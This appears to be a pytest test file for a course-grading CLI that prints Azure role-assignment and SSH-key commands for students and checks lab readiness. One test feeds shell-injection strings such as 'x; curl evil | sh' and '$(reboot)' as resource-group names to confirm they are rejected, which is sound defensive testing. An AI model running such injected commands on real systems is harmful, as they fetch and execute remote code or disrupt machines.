"""`milab onboard` and `milab preflight` against the local Azure: what a student runs to let
the grader in, and, before the deadline, whether the grader can read each lab and log in."""

from __future__ import annotations

import os
import subprocess
import sys

import pytest
from e2ekit import SUITE, suite_defects, suite_spec, suite_stages

from pytest_milab.provision import build_in_local_azure


def milab(azure, *args) -> subprocess.CompletedProcess:
    env = {**os.environ, **azure.env, "AZURE_CLIENT_ID": azure.grader.client_id,
           "AZURE_CLIENT_SECRET": azure.grader.client_secret}
    return subprocess.run([sys.executable, "-m", "pytest_milab.cli", *args], env=env,
                          capture_output=True, text=True, timeout=300)


@pytest.mark.slow
def test_preflight_says_which_labs_are_ready(local_azure, tmp_path):
    stages, state = suite_defects()["ssh"].apply(suite_stages())
    build_in_local_azure(local_azure, ["pre-closed"], stages, suite_spec(), state=state)
    key, _ = build_in_local_azure(local_azure, ["pre-ready"], suite_stages(), suite_spec())
    result = milab(local_azure, "preflight", "--suite", str(SUITE), "--group", "pre-ready",
                   "--group", "pre-closed", "--group", "pre-missing", "--ssh-key", str(key),
                   "--ssh-port", local_azure.env["MILAB_SSH_PORT"])
    lines = result.stdout.splitlines()
    assert lines[0].startswith("pre-ready    ready: the group is readable, logged in to "
                               "azureuser@"), result.stdout + result.stderr
    assert "first seen" in lines[0]
    assert lines[1].startswith("pre-closed   cannot log in to the machine: the machine does not "
                               "answer SSH")
    assert "no rule allows inbound TCP 22" in lines[1]
    assert lines[2].startswith("pre-missing  no resource group 'pre-missing' in subscription")
    assert lines[3] == "milab preflight: 1 of 3 lab(s) ready; 2 need attention"
    assert result.returncode == 1


def test_onboard_prints_what_the_student_runs(local_azure, tmp_path):
    pub = tmp_path / "grader.pub"
    pub.write_text("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGraderKey grader\n")
    result = milab(local_azure, "onboard", "--suite", str(SUITE), "--public-key", str(pub))
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines()[1:6] == [
        f"az role assignment create --assignee {local_azure.grader.object_id} --role Reader \\",
        "    --scope $(az group show --name managed_identity_lab --query id --output tsv)",
        "# Let the grader log in to your lab's machine:",
        "az vm user update --resource-group managed_identity_lab --name ubuntu \\",
        "    --username milabgrader --ssh-key-value 'ssh-ed25519 "
        "AAAAC3NzaC1lZDI1NTE5AAAAIGraderKey grader'"]
    bad = milab(local_azure, "onboard", "--suite", str(SUITE), "--public-key",
                str(tmp_path / "none.pub"))
    assert bad.returncode == 2 and bad.stderr.count("\n") == 1
    assert "--public-key" in bad.stderr and "cannot read it" in bad.stderr


def test_onboard_prints_or_creates_the_evidence_app(local_azure, tmp_path):
    pub = tmp_path / "grader.pub"
    pub.write_text("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGraderKey grader\n")
    printed = milab(local_azure, "onboard", "--suite", str(SUITE), "--public-key", str(pub),
                    "--evidence-app")
    assert printed.returncode == 0, printed.stderr
    assert 'az ad app create --display-name "milab evidence"' in printed.stdout
    assert 'az ad app update --id "$appId" --identifier-uris "api://$appId"' in printed.stdout
    # The grader is Reader only: Graph refuses it, said in one line.
    refused = milab(local_azure, "onboard", "--suite", str(SUITE), "--public-key", str(pub),
                    "--create-evidence-app")
    assert refused.returncode == 2 and "creating the evidence app failed" in refused.stderr
    # As a principal that may register applications, it is created, and Entra then issues
    # tokens for it.
    env = {**os.environ, **local_azure.env, "AZURE_CLIENT_ID": local_azure.operator.client_id,
           "AZURE_CLIENT_SECRET": local_azure.operator.client_secret}
    made = subprocess.run([sys.executable, "-m", "pytest_milab.cli", "onboard", "--suite",
                           str(SUITE), "--public-key", str(pub), "--create-evidence-app",
                           "--grader-object-id", local_azure.grader.object_id],
                          env=env, capture_output=True, text=True, timeout=300)
    assert made.returncode == 0, made.stderr
    uri = made.stdout.split("--milab-evidence-audience ")[1].split()[0]
    app = local_azure.cloud.resource_application(uri)
    assert app is not None and uri == f"api://{app.app_id}" and app.display_name == "milab evidence"


@pytest.mark.parametrize("group", ["lab.", "lab\n", "x; curl evil | sh", "$(reboot)", "a" * 91])
def test_onboard_prints_no_group_azure_would_refuse(tmp_path, capsys, group):
    """The group goes into commands the student pastes into a shell: only a valid name is
    printed; anything else is one line on stderr, before the grader is looked up."""
    from pytest_milab.cli import main

    pub = tmp_path / "grader.pub"
    pub.write_text("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGraderKey grader\n")
    code = main(["onboard", "--suite", str(SUITE), "--public-key", str(pub),
                 "--grader-object-id", "00000000-0000-0000-0000-000000000009",
                 "--group", group])
    out, err = capsys.readouterr()
    assert code == 2 and out == ""
    assert err.startswith("milab onboard: --group ") and err.count("\n") == 1
    assert "not a valid resource group name" in err
